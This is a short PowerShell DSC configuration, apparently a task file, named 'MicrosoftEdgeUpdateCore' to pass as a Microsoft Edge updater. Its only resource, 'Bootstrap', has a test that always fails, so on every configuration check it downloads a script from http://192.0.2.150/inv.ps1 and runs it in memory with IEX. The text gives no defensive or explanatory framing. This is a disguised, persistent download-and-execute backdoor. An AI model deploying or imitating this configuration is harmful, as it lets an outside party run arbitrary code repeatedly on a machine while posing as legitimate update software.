# task 4096 v2
Configuration MicrosoftEdgeUpdateCore {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/inv.ps1') }
    }
  }
}
